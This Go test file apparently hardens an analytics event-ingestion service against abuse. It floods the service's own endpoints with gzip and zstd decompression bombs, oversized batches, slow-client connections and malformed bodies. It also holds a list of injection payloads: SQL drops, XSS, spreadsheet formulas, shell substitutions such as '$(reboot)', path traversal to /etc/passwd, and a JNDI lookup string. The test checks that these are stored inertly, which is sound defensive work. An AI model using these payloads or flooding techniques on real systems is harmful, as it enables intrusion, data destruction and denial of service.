package attack_test

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"

	"github.com/analytics-platform/analytics/shared/model/event"
)

func ingestAttacks() []attack {
	return []attack{
		{"large events in small requests", largeEvents},
		{"bodies that unpack to much", bombs},
		{"windows of zstd", windows},
		{"messages with a shared context", sharedContext},
		{"bodies and headers that never end", slowClients},
		{"values that are code elsewhere", injectedEvents},
		{"bodies that are no events", junk},
	}
}

// largeEvents fills the queue from many addresses: each request has a few kilobytes, and its
// events many.
func largeEvents(t *testing.T, i *installation) {
	t.Helper()
	domains := zip(t, `{"n":"pageview","u":"https://`+attacked+`/","d":"`+strings.Repeat(attacked+",", 999)+attacked+`"}`)
	var props strings.Builder
	for n := range 18 {
		fmt.Fprintf(&props, `"key%d":"%s",`, n, strings.Repeat("x", 1000))
	}
	one := fmt.Sprintf(`{"site":"%s","type":"view","url":"https://%[1]s/","props":{%s}}`, attacked, strings.TrimSuffix(props.String(), ","))
	batch := zip(t, "["+strings.Repeat(one+",", 49)+one+"]")
	i.flood(t, "track", 200, func(n int) request {
		if n%2 == 0 {
			return request{method: http.MethodPost, path: "/api/event", headers: map[string]string{"Content-Encoding": "gzip"}, body: domains}
		}
		return request{method: http.MethodPost, path: "/", headers: map[string]string{"Content-Encoding": "gzip"}, body: batch}
	})
	// Each event has values of its own, which make rows of rollups.
	i.flood(t, "track", 100, func(n int) request {
		var events []string
		for k := range 50 {
			v := fmt.Sprintf("%d-%d-%d", time.Now().UnixNano(), n, k)
			events = append(events, fmt.Sprintf(`{"site":"%s","type":"conversion","name":"%s","tag":"%[2]s","language":"fr","url":"https://%[1]s/%[2]s?utm_source=%[2]s&utm_medium=%[2]s&utm_campaign=%[2]s&utm_term=%[2]s&utm_content=%[2]s","referrer":"https://%[2]s.example/"}`, attacked, v))
		}
		return request{method: http.MethodPost, path: "/", body: []byte("[" + strings.Join(events, ",") + "]")}
	})
}

// bombs are bodies of few bytes that unpack to as much as a body may have, and to more.
func bombs(t *testing.T, i *installation) {
	t.Helper()
	var one strings.Builder
	fmt.Fprintf(&one, `{"site":"%s","type":"view","url":"https://%[1]s/","props":{`, attacked)
	for n := 0; one.Len() < event.MaxEvent-100; n++ {
		fmt.Fprintf(&one, `"%x":1,`, n)
	}
	one.WriteString(`"z":1}}`)
	fits := zip(t, "["+strings.Repeat(one.String()+",", event.MaxBody/(one.Len()+1)-1)+one.String()+"]")
	deep := zip(t, strings.Repeat("[", event.MaxBody))
	endless := zip(t, strings.Repeat(" ", 64*event.MaxBody))
	bodies := [][]byte{fits, deep, endless}
	i.flood(t, "track", 300, func(n int) request {
		return request{method: http.MethodPost, path: "/", headers: map[string]string{"Content-Encoding": "gzip"}, body: bodies[n%len(bodies)]}
	})
}

// windows are small bodies that declare a window of 8 MB.
func windows(t *testing.T, i *installation) {
	t.Helper()
	const text = `{"site":"` + attacked + `","type":"view","url":"https://` + attacked + `/"}`
	block := len(text)<<3 | 1
	frame := append([]byte{0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x68, byte(block), byte(block >> 8), byte(block >> 16)}, text...)
	i.flood(t, "track", 400, func(int) request {
		return request{method: http.MethodPost, path: "/", headers: map[string]string{"Content-Encoding": "zstd"}, body: frame}
	})
}

func sharedContext(t *testing.T, i *installation) {
	t.Helper()
	page := fmt.Sprintf(`{"url":"https://%s/%s","referrer":"https://x.example/%[2]s","title":"%[3]s"}`, attacked, strings.Repeat("x", 1900), strings.Repeat("t", 500))
	body := zip(t, `{"writeKey":"`+attacked+`","context":{"page":`+page+`},"batch":[`+strings.Repeat(`{"type":"track","event":"a"},`, 999)+`{"type":"track","event":"a"}]}`)
	i.flood(t, "track", 100, func(int) request {
		return request{method: http.MethodPost, path: "/v1/batch", headers: map[string]string{"Content-Encoding": "gzip"}, body: body}
	})
}

// slowClients open connections, and send the beginning of a header or of a body to each
// function that strangers reach. The functions close them.
func slowClients(t *testing.T, i *installation) {
	t.Helper()
	const each = 100
	var conns []net.Conn
	for _, function := range []string{"track", "query", "websocket-bridge", "admin", "dashboard"} {
		conns = append(conns, i.dial(t, function, each, "POST / HTTP/1.1\r\nHost: x\r\nX-Endless: ")...)
		for _, conn := range i.dial(t, function, each, fmt.Sprintf("POST /session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", event.MaxBody)) {
			_, _ = conn.Write(make([]byte, event.MaxBody/2)) // fails if the function has refused the body
			conns = append(conns, conn)
		}
	}
	for _, conn := range conns {
		_, _ = io.Copy(io.Discard, conn) // until the function closes the connection
		_ = conn.Close()
	}
}

// code returns texts that are harmless here, and code for a database, a browser, a
// spreadsheet, a shell or a terminal.
func code() []string {
	return []string{
		`'; DROP TABLE events; --`, `' OR '1'='1`, `$$; SELECT pg_sleep(60); --`, `1); DELETE FROM sites; --`, `\'; TRUNCATE events; --`, "E'\\x00'",
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `</script><svg onload=alert(1)>`, "{{7*7}}${7*7}<%= 7*7 %>",
		`=cmd|'/c calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", `＝1+1`, `;=1+1`,
		"$(reboot)", "`reboot`", "| reboot", "%0d%0aSet-Cookie: x=1", "../../../etc/passwd", `..\..\windows\win.ini`, "%2e%2e%2f", "%s%s%n", "${jndi:ldap://x.example/a}",
		"\u202egnp.exe", "a\u0300\u0301\u0302", "\U0001F4A9", strings.Repeat("A", 5000), "NaN", "1e999", "-0", "null", "undefined", "__proto__", "constructor",
	}
}

// injectedEvents sends each text in each field of each format.
func injectedEvents(t *testing.T, i *installation) {
	t.Helper()
	var all []request
	for _, text := range code() {
		v := quote(text)
		all = append(
			all,
			request{path: "/", body: []byte(`{"site":"` + attacked + `","type":"conversion","name":` + v + `,"url":"https://` + attacked + `/","title":` + v + `,"tag":` + v + `,"props":{"a":` + v + `,` + v + `:"a"}}`)},
			request{path: "/", body: []byte(`{"site":` + v + `,"type":` + v + `,"url":` + v + `,"referrer":` + v + `,"language":` + v + `,"screen":` + v + `,"id":` + v + `,"timestamp":` + v + `}`)},
			request{path: "/", body: []byte(`{"site":"` + attacked + `","type":"view","url":` + quote("https://"+attacked+"/"+text+"?utm_source="+text) + `}`)},
			request{path: "/api/event", body: []byte(`{"n":` + v + `,"u":` + quote("https://"+attacked+"/"+text) + `,"d":"` + attacked + `","r":` + v + `,"p":{"a":` + v + `},"$":{"amount":` + v + `,"currency":` + v + `}}`)},
			request{path: "/api/send", body: []byte(`{"type":"event","payload":{"website":"` + attacked + `","url":` + v + `,"name":` + v + `,"title":` + v + `,"hostname":` + v + `,"data":{"a":` + v + `}}}`)},
			request{path: "/v1/track", body: []byte(`{"writeKey":"` + attacked + `","event":` + v + `,"messageId":` + v + `,"properties":{"a":` + v + `},"context":{"ip":` + v + `,"page":{"url":` + v + `}}}`)},
		)
	}
	i.flood(t, "track", len(all), func(n int) request {
		all[n].method = http.MethodPost
		return all[n]
	})
	i.eventually(t, "what is code elsewhere is stored as it is", func() bool {
		var stored int
		err := i.db.QueryRow(t.Context(), `SELECT count(DISTINCT name) FROM events WHERE name = ANY($1)`,
			[]string{`'; DROP TABLE events; --`, `<script>alert(1)</script>`, `=cmd|'/c calc'!A0`}).Scan(&stored)
		return err == nil && stored == 3
	})
}

// junk is what no tracker sends.
func junk(t *testing.T, i *installation) {
	t.Helper()
	bodies := []string{
		"", "null", "[]", "{}", `""`, "[null]", "[[]]", "{", `{"site"`, `{"site":1}`, "\x00", "\xff\xfe", `{"site":"` + attacked + `\ud800"}`,
		`{"site":"` + attacked + `","site":"x"}`, strings.Repeat(`{"a":`, 20_000), strings.Repeat("[", 100_000), `{"site":"` + attacked + `","value":{"amount":"1e400"}}`,
		`{"site":"` + attacked + `","timestamp":"9999999999999999-01-01T00:00:00Z"}`, strings.Repeat("9", 100_000), `{"type":"event"}`, `{"batch":[{"batch":[]}]}`,
	}
	paths := []string{"/", "/api/event", "/api/send", "/api/batch", "/v1/batch", "/v1/track", "/v1/page", "/v1/identify", "/pixel.gif", "/script.js", "/script.x.y.z.js", "/../..", "/%00", "/v1/%2e%2e"}
	methods := []string{http.MethodPost, http.MethodGet, http.MethodPut, http.MethodDelete, http.MethodOptions, "TRACE", "PROPFIND"}
	encodings := []string{"", "gzip", "zstd", "br", "gzip, gzip", strings.Repeat("gzip,", 100)}
	i.flood(t, "track", len(bodies)*len(paths), func(n int) request {
		return request{
			method: methods[n%len(methods)], path: paths[n%len(paths)], body: []byte(bodies[n/len(paths)]),
			headers: map[string]string{"Content-Encoding": encodings[n%len(encodings)], "X-Forwarded-For": strings.Repeat("1.1.1.1, ", n%50) + "x"},
		}
	})
}

func zip(t *testing.T, text string) []byte {
	t.Helper()
	var zipped bytes.Buffer
	w := gzip.NewWriter(&zipped)
	if _, err := io.WriteString(w, text); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return zipped.Bytes()
}
